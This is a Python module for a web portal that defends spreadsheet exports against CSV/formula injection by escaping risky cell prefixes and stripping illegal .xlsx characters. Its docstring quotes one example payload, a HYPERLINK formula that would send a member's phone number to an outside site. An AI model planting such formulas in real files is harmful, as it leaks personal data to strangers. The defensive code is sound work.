"""Safe cells for every spreadsheet the portal writes (CSV and .xlsx).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and WPS when the file is opened (OWASP, "CSV Injection"): a member
named ``=HYPERLINK("http://…?"&H2,"点此")`` would send the next column's full mobile number to a
stranger's site with one click. Every exporter passes each cell through ``safe_cell``, which
puts an apostrophe before such text, the escape that every spreadsheet program shows as the
text itself. Numbers, dates and booleans pass through unchanged: they cannot be formulas.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written into a spreadsheet cell without being run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


# Control characters other than tab, newline and carriage return cannot be stored in .xlsx
# (openpyxl raises IllegalCharacterError): a name pasted with one would make the export fail.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_xlsx_cell(value: Any) -> Any:
    """``safe_cell`` for .xlsx: also drops the control characters the format cannot hold."""
    if isinstance(value, str):
        value = _XLSX_ILLEGAL.sub("", value)
    return safe_cell(value)


def safe_xlsx_row(values: Iterable[Any]) -> list[Any]:
    return [safe_xlsx_cell(value) for value in values]


class SafeSpreadsheetExportMixin:
    """For Wagtail's ``SpreadsheetExportMixin`` (list exports, reports): every cell of both
    formats passes through the safe-cell helper. Wagtail only turns what openpyxl reads as a
    formula (text starting with ``=``) back into text in .xlsx, and writes CSV cells raw."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return safe_cell(value) if export_format == "csv" else safe_xlsx_cell(value)
